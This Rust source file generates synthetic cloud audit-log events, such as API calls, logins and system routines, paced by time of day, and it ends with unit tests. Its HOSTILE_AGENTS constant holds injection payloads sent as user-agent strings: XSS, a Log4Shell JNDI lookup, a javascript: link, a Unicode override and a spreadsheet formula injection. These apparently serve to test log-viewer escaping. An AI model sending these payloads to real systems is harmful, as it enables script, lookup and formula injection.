//! Everyday life: what happens on an ordinary day, as a function of the seed and a running number.
//!
//! Any event can be made alone, from its number, so nothing but a few words of it is kept until somebody asks for its page.

use std::borrow::Cow;
use std::sync::Arc;

use chrono::{DateTime, Utc};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use super::catalogue::{
    By, Call, Fate, ROUTINES, Routine, SERVICES, Service, dates_its_deletion, expand, goes_by_its_parent, info_of,
    is_named, success_of,
};
use super::entities::{Resource, User};
use super::ids::{access_key, uuid_v4, uuid_v7};
use super::organisation::Organisation;
use super::render::{ApiCall, Event, Login, Nanos, SystemEvent, Touched, escaped};

pub(super) const SECOND: Nanos = 1_000_000_000;
const HOUR: Nanos = 3600 * SECOND;

/// People and automation work in sittings: one principal, several calls, seconds apart.
const SITTING: u64 = 8;

/// Every so many events, the next row of the catalogue is due whatever its weight, so that all of it is always present.
const TURN: u64 = 24;

/// The stream of everyday events.
#[derive(Debug)]
pub(super) struct Traffic {
    organisation: Arc<Organisation>,
    /// The seed. Each event and each sitting draws from a stream of its own.
    rng: ChaCha8Rng,
    /// How many events there are up to `now`.
    count: u64,
    rhythm: Rhythm,
    /// How much of the rhythm one sitting takes.
    pace: f64,
    rows: Vec<(&'static Service, &'static Call)>,
    people: Lottery,
    machines: Lottery,
    routines: Lottery,
}

/// Who sits down, and when.
struct Sitting<'a> {
    at: Nanos,
    actor: Actor<'a>,
    /// Time from one call to the next.
    step: Nanos,
    /// Whether calls come in pairs at the very same nanosecond.
    paired: bool,
    user_agent: &'a str,
}

#[derive(Clone, Copy)]
struct Actor<'a> {
    id: &'a str,
    address: &'a str,
    user_agent: &'a str,
    user: Option<&'a User>,
}

/// User agents that break what trusts them. Anyone can send one.
const HOSTILE_AGENTS: [&str; 6] = [
    "\"><img src=x onerror=alert(document.domain)>",
    "${jndi:ldap://192.0.2.1/a} $__from ${var}",
    "curl/8.5.0 \u{202e}tobrowser\u{202c}",
    "🤖 bot 'with' \"quotes\" \\ and | pipes | [link](javascript:alert(1))",
    "",
    "=cmd|' /C calc'!A0",
];

impl Traffic {
    pub(super) fn new(organisation: Arc<Organisation>, seed: u64, start: Nanos, now: Nanos, count: u64) -> Self {
        let rhythm = Rhythm::new(start, now);
        let rows: Vec<_> =
            SERVICES.iter().flat_map(|service| service.calls.iter().map(move |call| (service, call))).collect();
        let lottery =
            |excluded: By| Lottery::new(rows.iter().map(|(_, call)| if call.by == excluded { 0 } else { call.weight }));
        Self {
            organisation,
            rng: ChaCha8Rng::seed_from_u64(seed),
            count,
            pace: rhythm.total() / real(count.div_ceil(SITTING).max(1)),
            rhythm,
            people: lottery(By::Machines),
            machines: lottery(By::People),
            routines: Lottery::new(ROUTINES.iter().map(|routine| routine.weight)),
            rows,
        }
    }

    /// When the sitting of this event begins: no event of it or of a later sitting is older.
    pub(super) fn begins(&self, index: u64) -> Nanos {
        self.sitting_start(index / SITTING, &mut self.stream(2 * (index / SITTING)))
    }

    /// The event with this number. Numbers from `count` on lie in the future of `now`.
    pub(super) fn event(&self, index: u64) -> Event<'_> {
        let sitting = self.sitting(index / SITTING);
        let rng = &mut self.stream(2 * index + 1);
        let place = (index % SITTING).cast_signed();
        let place = if sitting.paired { place & !1 } else { place };
        let at = sitting.at + place * sitting.step;
        match rng.random_range(0..100) {
            0..7 if !is_turn(index) => self.login(at, &sitting, rng),
            7..10 if !is_turn(index) => self.system(at, rng),
            _ => self.call(index, at, &sitting, rng),
        }
    }

    fn stream(&self, stream: u64) -> ChaCha8Rng {
        let mut rng = self.rng.clone();
        rng.set_stream(stream);
        rng
    }

    fn sitting_start(&self, sitting: u64, rng: &mut ChaCha8Rng) -> Nanos {
        self.rhythm.at((real(sitting) + rng.random::<f64>()) * self.pace)
    }

    fn sitting(&self, number: u64) -> Sitting<'_> {
        let rng = &mut self.stream(2 * number);
        let mut at = self.sitting_start(number, rng);
        let actor = if rng.random_bool(people_share(at)) { self.someone(rng) } else { self.machine(rng) };
        let step = if actor.user.is_some() {
            rng.random_range(2 * SECOND..20 * SECOND)
        } else {
            rng.random_range(SECOND / 20..2 * SECOND)
        };
        // In a short span, sittings are short; those of the past end before now.
        let step = step.min(self.rhythm.span() / 32);
        if number * SITTING < self.count {
            at = at.min(self.rhythm.now - step * SITTING.cast_signed() - 1);
        }
        let user_agent = if rng.random_bool(0.01) {
            HOSTILE_AGENTS[rng.random_range(0..HOSTILE_AGENTS.len())]
        } else if actor.user.is_some() && rng.random_bool(0.1) {
            "scaleway-cli/2.42.0 (go1.25.1; darwin; arm64)"
        } else {
            actor.user_agent
        };
        Sitting { at, actor, step, paired: rng.random_bool(0.06), user_agent }
    }

    fn someone(&self, rng: &mut impl Rng) -> Actor<'_> {
        let user = &self.organisation.users[rng.random_range(0..self.organisation.users.len())];
        Actor { id: &user.id, address: &user.address, user_agent: user.user_agent, user: Some(user) }
    }

    fn machine(&self, rng: &mut impl Rng) -> Actor<'_> {
        let applications = &self.organisation.applications;
        // Terraform and the deployments do most; the departed one left a few traces.
        let application = match rng.random_range(0..100) {
            0..35 => &applications[0],
            35..60 => &applications[1],
            60..62 => &self.organisation.departed,
            _ => &applications[rng.random_range(0..applications.len())],
        };
        Actor { id: &application.id, address: &application.address, user_agent: application.user_agent, user: None }
    }

    fn call<'a>(&'a self, index: u64, at: Nanos, sitting: &Sitting<'a>, rng: &mut ChaCha8Rng) -> Event<'a> {
        let Sitting { mut actor, mut user_agent, .. } = *sitting;
        let row = if is_turn(index) {
            usize::try_from(index / TURN).unwrap_or_default() % self.rows.len()
        } else if actor.user.is_some() {
            self.people.draw(rng)
        } else {
            self.machines.draw(rng)
        };
        let (service, call) = self.rows[row];
        if call.by == By::People && actor.user.is_none() {
            actor = self.someone(rng);
            user_agent = actor.user_agent;
        } else if call.by == By::Machines && actor.user.is_some() {
            actor = self.machine(rng);
            user_agent = actor.user_agent;
        }
        let in_cluster = service.product == "kubernetes";
        // Instance events have microseconds and ids that are not made of time.
        let at = if service.product == "instance" { micros(at) } else { at };
        let status = match rng.random_range(0..1000) {
            0..18 => 403,
            18..26 => [400, 404, 409, 412, 429, 500, 503][rng.random_range(0..7)],
            _ => success_of(service.product, call.method),
        };
        let (body, resources, first) = self.touch(at, call, service.product, status, actor, rng);
        Event::Api(ApiCall {
            at,
            id: event_id(at, service.product, rng),
            locality: first.locality,
            principal: (!service.is_anonymous()).then_some(actor.id),
            organization: &self.organisation.id,
            project: service.has_project(call.on).then_some(first.project_id.as_str()),
            source_ip: if in_cluster { "" } else { actor.address },
            user_agent: (!in_cluster).then_some(user_agent),
            product: service.product,
            service: service.name,
            method: call.method,
            request_id: uuid_v4(rng.random()),
            body,
            status,
            resources,
        })
    }

    /// The request body, the resources the event lists, and the resource that decides where it happened.
    fn touch<'a>(
        &'a self,
        at: Nanos,
        call: &'static Call,
        product: &str,
        status: u16,
        actor: Actor<'a>,
        rng: &mut ChaCha8Rng,
    ) -> (String, Vec<Touched<'a>>, &'a Resource) {
        let fate = call.fate();
        let mut kinds = call.on.split('+');
        let first = self.pick(kinds.next().unwrap_or_default(), call.method, at, actor, rng);
        let target = Target::new(first, actor.id, at, fate, rng);
        let body = self.fill(call.body, &target, rng);
        let mut resources = Vec::new();
        // What was refused was not made.
        if call.lists_resources(product) && (status < 300 || fate != Fate::IsMade) {
            resources.push(self.touched(&target, at, rng));
            for kind in kinds {
                let other = self.organisation.pick(kind, rng);
                // All of a batch is made or ends; what else a call touches stays.
                let fate = if kind == first.kind { fate } else { Fate::Stays };
                resources.push(self.touched(&Target::new(other, actor.id, at, fate, rng), at, rng));
            }
        }
        (body, resources, first)
    }

    /// Logging in is about oneself, everything else about anything of its type.
    fn pick(&self, kind: &str, method: &str, at: Nanos, actor: Actor<'_>, rng: &mut ChaCha8Rng) -> &Resource {
        let own = match (kind, actor.user) {
            ("iam_user", Some(user)) if matches!(method, "RenewJWT" | "CreatePasswordLogin" | "CheckLoginMFAOTP") => {
                Some(&user.id)
            }
            ("account_user", Some(user)) => Some(&user.account_root_user_id),
            _ => None,
        };
        let own = own.and_then(|id| self.organisation.resources_of(kind).find(|resource| resource.id == *id));
        let resource = own.unwrap_or_else(|| self.organisation.pick(kind, rng));
        // The incident alone decides when its server runs.
        let incident = &self.organisation.incident;
        if method == "ServerAction" && resource.id == incident.server_id && at >= nanos(incident.started_at) {
            let other = self.organisation.resources_of(kind).find(|resource| resource.id != incident.server_id);
            return other.unwrap_or(resource);
        }
        resource
    }

    fn touched<'a>(&'a self, target: &Target<'a>, at: Nanos, rng: &mut ChaCha8Rng) -> Touched<'a> {
        let kind = target.resource.kind;
        let (id, name) = match self.organisation.parent_of(target.resource) {
            Some(cluster) if goes_by_its_parent(kind) => {
                (Cow::Borrowed(cluster.id.as_str()), Cow::Borrowed(cluster.name.as_str()))
            }
            _ => (target.id.clone(), target.name.clone()),
        };
        let touched_at = at - rng.random_range(1_000_000..60_000_000);
        Touched {
            id,
            kind,
            created_at: micros(target.created_at),
            updated_at: micros(touched_at.max(target.created_at)),
            deleted_at: (target.fate == Fate::Ends && dates_its_deletion(kind)).then_some(touched_at),
            name: is_named(kind).then_some(name),
            info: self.fill(info_of(kind), target, rng),
        }
    }

    fn fill(&self, template: &str, target: &Target<'_>, rng: &mut ChaCha8Rng) -> String {
        let organisation = &*self.organisation;
        expand(template, |word, out| match word {
            "id" => out.push_str(&target.id),
            "name" => out.push_str(&escaped(&target.name)),
            "parent" => out.push_str(organisation.parent_of(target.resource).map_or("", |parent| &parent.id)),
            "project" => out.push_str(&target.resource.project_id),
            "organization" => out.push_str(&organisation.id),
            "network" => out.push_str(&organisation.pick("vpc_private_network", rng).id),
            "group" => out.push_str(&organisation.pick("instance_security_group", rng).id),
            "backend" => out.push_str(&organisation.pick("load_balancer_backend", rng).id),
            "self" => out.push_str(target.actor),
            "user" => out.push_str(&organisation.pick("iam_user", rng).id),
            "email" => out.push_str(&organisation.pick("iam_user", rng).name),
            "application" => out.push_str(&organisation.pick("iam_application", rng).id),
            "small" => out.push(char::from(b'1' + rng.random_range(0..9u8))),
            "uuid" => out.push_str(&uuid_v4(rng.random())),
            unknown => debug_assert!(false, "the catalogue has an unknown word: ${unknown}"),
        })
    }

    fn login<'a>(&'a self, at: Nanos, sitting: &Sitting<'a>, rng: &mut ChaCha8Rng) -> Event<'a> {
        let users = &self.organisation.users;
        let user = sitting.actor.user.unwrap_or_else(|| &users[rng.random_range(0..users.len())]);
        let (result, failure_reason) = match rng.random_range(0..100) {
            0..4 => ("failure", Some("invalid_password")),
            4..6 if user.mfa => ("failure", Some("invalid_mfa")),
            _ => ("success", None),
        };
        Event::Login(Login {
            at,
            id: event_id(at, "iam", rng),
            organization: &self.organisation.id,
            source_ip: &user.address,
            user_agent: rng.random_bool(0.98).then_some(user.user_agent),
            resources: vec![person(&self.organisation, user)],
            result,
            failure_reason: failure_reason.or((at % 3 == 0).then_some("unknown_failure_reason")),
            country: Some(if rng.random_bool(0.02) { "unknown_country_code" } else { user.country }),
            method: ["password", "password", "oauth2", "saml", "authentication_code"][rng.random_range(0..5)],
            origin: if rng.random_bool(0.01) { "admin_api" } else { "public_api" },
            mfa: user.mfa.then_some("totp").or((at % 2 == 0).then_some("unknown_mfa_type")),
        })
    }

    fn system(&self, at: Nanos, rng: &mut ChaCha8Rng) -> Event<'_> {
        let routine: &'static Routine = &ROUTINES[self.routines.draw(rng)];
        let resource = self.organisation.pick(routine.on, rng);
        let target = Target::new(resource, "", at, Fate::Stays, rng);
        Event::System(SystemEvent {
            at,
            id: event_id(at, routine.product, rng),
            locality: resource.locality,
            organization: &self.organisation.id,
            project: (!matches!(routine.product, "iam" | "audit-trail")).then_some(resource.project_id.as_str()),
            product: routine.product,
            source: routine.source,
            system_name: routine.system_name,
            resources: vec![self.touched(&target, at, rng)],
            kind: routine.kind,
        })
    }
}

/// A user as the resource of their own log-in.
pub(super) fn person<'a>(organisation: &'a Organisation, user: &'a User) -> Touched<'a> {
    let resource = organisation.resources_of("iam_user").find(|resource| resource.id == user.id);
    let created_at = resource.and_then(|resource| resource.created_at.timestamp_nanos_opt()).map_or(0, micros);
    Touched {
        id: Cow::Borrowed(&user.id),
        kind: "iam_user",
        created_at,
        updated_at: created_at,
        deleted_at: None,
        name: Some(Cow::Borrowed(&user.email)),
        info: String::new(),
    }
}

/// The id of an event: made of its time, give or take a few milliseconds, except for Instance.
pub(super) fn event_id(at: Nanos, product: &str, rng: &mut impl Rng) -> String {
    if product == "instance" {
        uuid_v4(rng.random())
    } else {
        uuid_v7(at / 1_000_000 - rng.random_range(0..6), rng.random())
    }
}

pub(super) fn nanos(at: DateTime<Utc>) -> Nanos {
    at.timestamp_nanos_opt().unwrap_or_default()
}

/// A resource about to be touched.
struct Target<'a> {
    resource: &'a Resource,
    /// Who touches it.
    actor: &'a str,
    id: Cow<'a, str>,
    name: Cow<'a, str>,
    created_at: Nanos,
    fate: Fate,
}

impl<'a> Target<'a> {
    /// What is made or ends is short-lived, with an id of its own; the rest is always there.
    fn new(resource: &'a Resource, actor: &'a str, at: Nanos, fate: Fate, rng: &mut impl Rng) -> Self {
        let age = match fate {
            Fate::IsMade => rng.random_range(2_000..40_000) * 1000,
            Fate::Ends => rng.random_range(SECOND * 60..SECOND * 86_400),
            Fate::Stays => {
                let created_at = nanos(resource.created_at);
                let (id, name) = (Cow::Borrowed(resource.id.as_str()), Cow::Borrowed(resource.name.as_str()));
                return Self { resource, actor, id, name, created_at, fate };
            }
        };
        let id = if resource.kind == "iam_api_key" { access_key(rng) } else { uuid_v4(rng.random()) };
        let name = match resource.kind {
            "iam_user" => format!("guest-{}@example.com", rng.random_range(100..1000)),
            "ipam_ip" | "load_balancer_ip" | "serverless_containers_domain" => resource.name.clone(),
            _ => format!("{}-{:04x}", resource.name, rng.random::<u16>()),
        };
        Self { resource, actor, id: id.into(), name: name.into(), created_at: at - age, fate }
    }
}

fn is_turn(index: u64) -> bool {
    index % TURN == TURN / 2
}

fn micros(at: Nanos) -> Nanos {
    at - at.rem_euclid(1000)
}

#[expect(clippy::cast_precision_loss, reason = "counts of events are far below 2^52")]
fn real(count: u64) -> f64 {
    count as f64
}

/// Draws indices by weight.
#[derive(Debug)]
struct Lottery {
    cumulative: Vec<u32>,
}

impl Lottery {
    fn new(weights: impl Iterator<Item = u32>) -> Self {
        let cumulative = weights.scan(0, |sum, weight| {
            *sum += weight;
            Some(*sum)
        });
        Self { cumulative: cumulative.collect() }
    }

    fn draw(&self, rng: &mut impl Rng) -> usize {
        let ticket = rng.random_range(0..self.cumulative.last().copied().unwrap_or(1));
        self.cumulative.partition_point(|&sum| sum <= ticket)
    }
}

/// Day and night: how much happens up to a moment, and the moment by which so much has happened.
#[derive(Debug)]
struct Rhythm {
    start: Nanos,
    now: Nanos,
    /// What has happened by the end of each hour since `start`.
    cumulative: Vec<f64>,
}

impl Rhythm {
    fn new(start: Nanos, now: Nanos) -> Self {
        let begun = (now - start + HOUR - 1) / HOUR;
        let cumulative = (0..begun).scan(0.0, |sum, hour| {
            *sum += liveliness(start + hour * HOUR);
            Some(*sum)
        });
        Self { start, now, cumulative: cumulative.collect() }
    }

    fn span(&self) -> Nanos {
        self.now - self.start
    }

    /// How much has happened at `now`, within its hour too.
    fn total(&self) -> f64 {
        let Some(last) = self.cumulative.last() else { return 1.0 };
        let begun = self.start + (hours(self.cumulative.len()) - 1) * HOUR;
        last - liveliness(begun) * (1.0 - share_of_hour(self.now - begun))
    }

    fn at(&self, happened: f64) -> Nanos {
        let mut hour = self.cumulative.partition_point(|&sum| sum <= happened);
        let mut before = if hour == 0 { 0.0 } else { self.cumulative[hour - 1] };
        // Past the table: the future, hour by hour.
        while hour >= self.cumulative.len() && before + liveliness(self.start + hours(hour) * HOUR) <= happened {
            before += liveliness(self.start + hours(hour) * HOUR);
            hour += 1;
        }
        let begun = self.start + hours(hour) * HOUR;
        begun + part_of_hour((happened - before) / liveliness(begun))
    }
}

fn hours(count: usize) -> Nanos {
    count.try_into().unwrap_or(Nanos::MAX)
}

#[expect(clippy::cast_precision_loss, reason = "an hour in nanoseconds is below 2^52")]
fn share_of_hour(time: Nanos) -> f64 {
    time as f64 / HOUR as f64
}

#[expect(clippy::cast_precision_loss, clippy::cast_possible_truncation, reason = "within an hour of nanoseconds")]
fn part_of_hour(share: f64) -> Nanos {
    (share.clamp(0.0, 1.0) * HOUR as f64) as Nanos
}

/// Hour of the day and day of the week, 0 being Thursday as on 1970-01-01. UTC.
fn calendar(at: Nanos) -> (i64, i64) {
    (at.div_euclid(HOUR).rem_euclid(24), at.div_euclid(24 * HOUR).rem_euclid(7))
}

/// How much happens in an hour, compared with others.
fn liveliness(at: Nanos) -> f64 {
    let (hour, day) = calendar(at);
    let weekend = matches!(day, 2 | 3);
    match hour {
        _ if weekend => 0.5,
        8..12 | 13..17 => 2.0,
        12 | 17 => 1.4,
        // Early and late, and the nightly backups at two.
        6..8 | 18..20 | 2 => 0.9,
        _ => 0.4,
    }
}

/// How much of it is done by people.
fn people_share(at: Nanos) -> f64 {
    let (hour, day) = calendar(at);
    if matches!(hour, 7..19) && !matches!(day, 2 | 3) { 0.6 } else { 0.15 }
}

#[cfg(test)]
mod tests {
    use chrono::TimeDelta;

    use super::super::organisation::ORGANIZATION_ID;
    use super::*;

    const NOW: Nanos = 1_773_327_845_678_901_234;

    fn traffic(count: u64, span: Nanos) -> Traffic {
        let organisation =
            Organisation::new(ORGANIZATION_ID, DateTime::from_timestamp_nanos(NOW), TimeDelta::nanoseconds(span));
        Traffic::new(Arc::new(organisation), 7, NOW - span, NOW, count)
    }

    #[test]
    fn the_past_ends_now_and_the_future_begins() {
        for (count, span) in [(8_000, 168 * HOUR), (801, HOUR / 2), (1, HOUR), (10_000, 30 * HOUR + 1)] {
            let traffic = traffic(count, span);
            let past: Vec<_> = (0..count).map(|number| traffic.event(number).at()).collect();
            assert!(past.iter().all(|&at| at < NOW && at >= NOW - span - HOUR), "{count} in {span}");
            let sitting = count.next_multiple_of(SITTING);
            let future: Vec<_> = (sitting..sitting + 800).map(|number| traffic.event(number).at()).collect();
            assert!(future.iter().all(|&at| at >= NOW), "{count} in {span}");
            let begins: Vec<_> = (0..count + 800).map(|number| traffic.begins(number)).collect();
            assert!(begins.is_sorted());
            assert!((sitting..).zip(&future).all(|(number, &at)| at >= traffic.begins(number) - 1000));
        }
    }

    #[test]
    fn days_are_livelier_than_nights_and_the_mix_is_as_promised() {
        let traffic = traffic(12_000, 168 * HOUR);
        let (mut day, mut night) = (0, 0);
        let mut kinds = [0; 3];
        for number in 0..12_000 {
            let event = traffic.event(number);
            match calendar(event.at()).0 {
                9..17 => day += 1,
                0..5 => night += 1,
                _ => {}
            }
            kinds[match event {
                Event::Api(_) => 0,
                Event::Login(_) => 1,
                Event::System(_) => 2,
            }] += 1;
        }
        assert!(day > 4 * night, "{day} by day, {night} by night");
        assert!(matches!(kinds, [10_600..=11_200, 650..=950, 250..=450]), "{kinds:?}");
    }

    #[test]
    fn ids_carry_their_time() {
        let id = event_id(NOW, "iam", &mut ChaCha8Rng::seed_from_u64(1));
        let milliseconds = i64::from_str_radix(&id.replace('-', "")[..12], 16).expect("hexadecimal");
        assert!((NOW / 1_000_000 - 6..=NOW / 1_000_000).contains(&milliseconds) && id.as_bytes()[14] == b'7');
    }
}
